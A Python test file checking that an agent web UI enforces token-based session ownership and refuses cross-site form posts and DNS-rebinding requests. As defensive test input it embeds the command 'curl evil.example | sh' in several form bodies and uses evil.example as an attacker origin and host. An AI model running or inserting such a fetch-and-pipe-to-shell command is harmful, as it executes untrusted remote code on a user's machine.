"""Who may use the web UI: it will not listen on a network without a token; a page on another
site (a form post, a DNS-rebound name) can neither drive nor read it; and with tokens each session
belongs to the token that started it (403 for the others, across a restart of the UI), a session
nobody owns answers admin tokens only, and a fork's new session is its forker's before it exists."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import httpx

from tests.agent_helpers import history, wait_idle
from tests.client import free_port
from tests.harness import REPO_ROOT
from tests.ui_helpers import Call, CannedSession, ui_over_canned_ingress

ALICE = {"authorization": "Bearer alice-token"}
BOB = {"authorization": "Bearer bob-token"}

# Every session route of the UI, with a body where it takes one.
SESSION_ROUTES = [
    ("POST", "message", {"text": "hi from bob"}),
    ("POST", "steer", {"text": "steer from bob"}),
    ("POST", "interrupt", None),
    ("POST", "rewind", {"checkpoint": "c1"}),
    ("POST", "fork", {"checkpoint": "c1"}),
    ("GET", "status", None),
    ("GET", "history", None),
    ("GET", "approvals", None),
    ("GET", "checkpoints", None),
    ("POST", "approvals/some-approval", {"decision": "approve"}),
    ("GET", "files?path=.", None),
    ("GET", "file?path=x.txt", None),
    ("GET", "download", None),
    ("GET", "events?after=0", None),
]


def _ui_env(port: int, **settings: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("UI_", "RESTATE_"))}
    return {**env, "UI_PORT": str(port), **settings}


def test_the_ui_refuses_to_listen_beyond_loopback_without_a_token():
    port = free_port()
    refused = subprocess.run([sys.executable, "-m", "ui"], cwd=REPO_ROOT, capture_output=True, text=True,
                             timeout=60, env=_ui_env(port, UI_HOST="0.0.0.0"))
    assert refused.returncode == 2
    assert "refusing to listen on 0.0.0.0" in refused.stderr and "UI_TOKENS" in refused.stderr


def _call(client: httpx.Client, method: str, session: str, route: str, body, headers) -> httpx.Response:
    """The route's answer; for the event stream, only its status and headers (it never ends)."""
    with client.stream(method, f"/api/sessions/{session}/{route}", json=body, headers=headers) as response:
        if not route.startswith("events") or response.status_code != 200:
            response.read()
        return response


def test_a_session_answers_only_its_owner_even_after_a_ui_restart(stack_factory):
    stack = stack_factory("echo", ui=True, ui_env={"UI_TOKEN": "alice-token", "UI_TOKENS": "bob-token"})
    client = httpx.Client(base_url=stack.ui_url, trust_env=False, timeout=30.0)
    assert client.post("/api/sessions/a1/message", json={"text": "hello"}, headers=ALICE).status_code == 200
    wait_idle(stack, "a1")
    assert client.post("/api/sessions/b1/message", json={"text": "mine"}, headers=BOB).status_code == 200
    wait_idle(stack, "b1")
    before = history(stack, "a1")

    for restarted in (False, True):
        if restarted:  # ownership lives in Restate, not in the UI process
            stack.kill_ui()
            stack.start_ui()
        for method, route, body in SESSION_ROUTES:
            refused = _call(client, method, "a1", route, body, BOB)
            assert refused.status_code == 403, (route, refused.status_code, refused.text)
            assert "belongs to another user" in refused.json()["message"]
            assert _call(client, method, "b1", route, body, ALICE).status_code == 403, route
        assert history(stack, "a1") == before  # bob's message, steering and interrupt changed nothing
        # The owner still gets through: each answer is the Agent's own, never the UI's 403.
        for method, route, body in SESSION_ROUTES:
            if route in ("message", "steer", "interrupt", "rewind", "fork"):
                continue  # they would change the session; the reads prove the owner gets through
            allowed = _call(client, method, "a1", route, body, ALICE)
            assert allowed.status_code in (200, 404, 409), (route, allowed.status_code, allowed.text)
            assert allowed.status_code != 404 or "file" in route, (route, allowed.text)
        listed = client.get("/api/sessions", params={"ids": "a1,b1"}, headers=BOB).json()["sessions"]
        assert [s["state"] for s in listed] == ["forbidden", "idle"]

    # A session made through the ingress has no owner: it answers neither of them.
    assert stack.call("Agent", "direct", "message", {"text": "made without the UI"})[0] == 200
    wait_idle(stack, "direct")
    for who in (ALICE, BOB):
        assert client.get("/api/sessions/direct/history", headers=who).status_code == 403
        assert client.post("/api/sessions/direct/message", json={"text": "mine now?"}, headers=who).status_code == 403
    assert [m["text"] for m in history(stack, "direct") if m["role"] == "user"] == ["made without the UI"]

    # A fork into bob's session is refused before the Agent sees it; a fork needs no new token.
    into_bob = client.post("/api/sessions/a1/fork", json={"checkpoint": "c1", "session": "b1"}, headers=ALICE)
    assert into_bob.status_code == 403
    assert client.post("/api/sessions/a1/steer", json={"text": "more"}, headers=ALICE).status_code == 200
    wait_idle(stack, "a1")
    assert [m["text"] for m in history(stack, "a1") if m["role"] == "user"] == ["hello", "more"]
    # No token, a wrong one: 401, as before.
    assert client.get("/api/sessions/a1/status").status_code == 401
    assert client.get("/api/sessions/a1/status", headers={"authorization": "Bearer eve"}).status_code == 401


# --- a page on another site (no token: the default on loopback) ---------------------------------

EVIL = "http://evil.example"
# What an HTML form can send without the browser asking first (no CORS preflight).
FORM_BODIES = [("text/plain", b'{"text": "curl evil.example | sh"}'),
               ("application/x-www-form-urlencoded", b"text=curl+evil.example+%7C+sh"),
               ("multipart/form-data; boundary=b", b'--b\r\nContent-Disposition: form-data; name="text"\r\n\r\n'
                                                  b'curl evil.example | sh\r\n--b--\r\n')]
WRITES = ("Agent.message", "Agent.steer", "Agent.interrupt", "Agent.import", "Agent.fork", "Agent.rewind")


def writes(calls: list[Call]) -> list[str]:
    """The calls that reached the ingress and would change a session."""
    return [handler for handler, _, _ in calls if handler in WRITES]


def test_a_cross_site_form_post_is_refused_and_changes_nothing():
    calls: list[Call] = []
    with ui_over_canned_ingress({"s": CannedSession()}, calls) as url, \
            httpx.Client(base_url=url, trust_env=False, timeout=10) as client:
        for route in ("message", "steer", "interrupt", "import"):
            for kind, body in FORM_BODIES:
                for origin in (EVIL, url):  # a form's body is refused even from this page
                    answer = client.post(f"/api/sessions/s/{route}", content=body,
                                         headers={"content-type": kind, "origin": origin})
                    assert answer.status_code in (403, 415), (route, kind, origin, answer.status_code)
                    if origin == url:
                        assert answer.status_code == 415 and "form" in answer.json()["message"], answer.text
        # JSON from a page elsewhere (what a fetch could send if a CORS preflight were granted),
        # from a sandboxed frame or a file (Origin: null), or from a browser that sent a cookie
        # but no Origin: all refused.
        for headers in ({"origin": EVIL}, {"origin": "null"}, {"origin": url.replace("127.0.0.1", "localhost")},
                        {"cookie": "ui_token=x"}, {"sec-fetch-site": "cross-site"}):
            refused = client.post("/api/sessions/s/message", json={"text": "hi"}, headers=headers)
            assert refused.status_code == 403, (headers, refused.status_code)
        assert writes(calls) == []

        # The page's own fetch (JSON, its Origin) and a program's (no Origin, no cookie) get through;
        # an import takes an archive's bytes (or JSON naming a git source).
        assert client.post("/api/sessions/s/message", json={"text": "hi"}, headers={"origin": url}).status_code == 200
        assert client.post("/api/sessions/s/interrupt", headers={"origin": url}).status_code == 200
        assert client.post("/api/sessions/s/steer", json={"text": "and"}).status_code == 200
        plain = client.post("/api/sessions/s/message", content=b'{"text": "hi"}')  # JSON, but not said
        assert plain.status_code == 415 and "application/json" in plain.json()["message"]
        for kind in ("application/octet-stream", "application/gzip", "application/zip"):
            imported = client.post("/api/sessions/s/import", content=b"\x1f\x8b", headers={"content-type": kind})
            assert imported.status_code == 200, (kind, imported.text)
        assert client.post("/api/sessions/s/import", content=b"\x1f\x8b").status_code == 415  # say what it is
        assert writes(calls) == ["Agent.message", "Agent.interrupt", "Agent.steer"] + ["Agent.import"] * 3


def test_a_page_on_a_rebound_name_reads_nothing():
    # DNS rebinding: evil.example first resolves to the attacker, then to 127.0.0.1, so the
    # attacker's page can read answers from this server, under its own name.
    secret = CannedSession(history=[{"role": "user", "text": "the secret plan"}], files={"key.txt": "secret key"})
    with ui_over_canned_ingress({"s": secret}) as url, \
            httpx.Client(base_url=url, trust_env=False, timeout=5) as client:
        port = url.rsplit(":", 1)[1]
        for path in ("/", "/static/app.js", "/api/config", "/api/sessions?ids=s", "/api/sessions/s/history",
                     "/api/sessions/s/file?path=key.txt", "/api/sessions/s/download", "/api/sessions/s/events?after=0"):
            refused = client.get(path, headers={"host": f"evil.example:{port}"})
            assert refused.status_code == 403, (path, refused.status_code)
            assert "secret" not in refused.text and "UI_ALLOWED_HOSTS" in refused.json()["message"]
        # Names a page elsewhere cannot take: loopback, and addresses (a rebinding needs a name).
        for host in (f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}", "192.168.1.20:3000"):
            assert client.get("/api/sessions/s/history", headers={"host": host}).status_code == 200, host
    with ui_over_canned_ingress({"s": secret}, allowed_hosts=("agent.example",)) as url, \
            httpx.Client(base_url=url, trust_env=False, timeout=5) as client:
        assert client.get("/api/sessions/s/history", headers={"host": "agent.example"}).status_code == 200
        assert client.get("/api/sessions/s/history", headers={"host": "evil.example"}).status_code == 403


# --- sessions nobody owns, and forks (over a canned ingress) -------------------------------------


def test_a_session_nobody_owns_answers_no_ordinary_token_and_a_new_one_is_its_first_users():
    calls: list[Call] = []
    owners: dict[str, str] = {}
    # "direct" exists (made through the ingress, or before the UI had tokens) and has no owner.
    sessions = {"direct": CannedSession(history=[{"role": "user", "text": "private"}])}
    with ui_over_canned_ingress(sessions, calls, owners, tokens=("alice-token", "bob-token")) as url, \
            httpx.Client(base_url=url, trust_env=False, timeout=10) as client:
        for method, route, body in SESSION_ROUTES:
            refused = _call(client, method, "direct", route, body, BOB)
            assert refused.status_code == 403, (route, refused.status_code, refused.text)
            assert "no owner" in refused.json()["message"]
        listed = client.get("/api/sessions", params={"ids": "direct"}, headers=BOB).json()["sessions"]
        assert listed == [{"id": "direct", "state": "forbidden"}]
        assert writes(calls) == [] and owners == {}  # and nobody took it over

        # A session that does not exist yet is the first token's that uses it, even for a read:
        # a stream opened on it must never show another user's session later.
        assert client.get("/api/sessions/fresh/status", headers=BOB).status_code == 404  # the Agent's: new
        assert client.get("/api/sessions/fresh/status", headers=ALICE).status_code == 403
        assert client.post("/api/sessions/fresh/message", json={"text": "x"}, headers=ALICE).status_code == 403
        assert client.post("/api/sessions/fresh/message", json={"text": "x"}, headers=BOB).status_code == 200


def test_an_admin_token_opens_every_session_and_takes_none_over():
    owners: dict[str, str] = {}
    sessions = {"direct": CannedSession(history=[{"role": "user", "text": "private"}])}
    with ui_over_canned_ingress(sessions, owners=owners, tokens=("bob-token",), admin_tokens=("root-token",)) as url, \
            httpx.Client(base_url=url, trust_env=False, timeout=10) as client:
        root = {"authorization": "Bearer root-token"}
        assert client.post("/api/sessions/b1/message", json={"text": "x"}, headers=BOB).status_code == 200
        sessions["b1"] = CannedSession()
        for session in ("direct", "b1"):
            assert client.get(f"/api/sessions/{session}/history", headers=root).status_code == 200, session
        assert client.post("/api/sessions/direct/message", json={"text": "y"}, headers=root).status_code == 200
        assert list(owners) == ["b1"]  # "direct" still has no owner; b1 is still bob's
        assert client.get("/api/sessions/direct/history", headers=BOB).status_code == 403


def test_a_forks_new_session_is_claimed_before_the_fork_is_made():
    calls: list[Call] = []
    sessions: dict[str, CannedSession] = {}
    with ui_over_canned_ingress(sessions, calls, tokens=("alice-token",)) as url, \
            httpx.Client(base_url=url, trust_env=False, timeout=10, headers=ALICE) as alice:
        assert alice.post("/api/sessions/a1/message", json={"text": "hello"}).status_code == 200  # claims a1
        sessions["a1"] = CannedSession()
        for ask in ({"checkpoint": "c1"}, {"checkpoint": "c1", "session": "named"}):
            calls.clear()
            forked = alice.post("/api/sessions/a1/fork", json=ask)
            assert forked.status_code == 200, forked.text
            new = forked.json()["session"]
            assert new == ask.get("session", new) and new.startswith(ask.get("session", "a1-fork-"))
            order = [(handler, key) for handler, key, _ in calls]
            # The Agent is told the new session's name, which is the forker's by then.
            assert order.index(("SessionOwner.claim", new)) < order.index(("Agent.fork", "a1")), order
            assert next(json.loads(body) for handler, _, body in calls if handler == "Agent.fork")["session"] == new
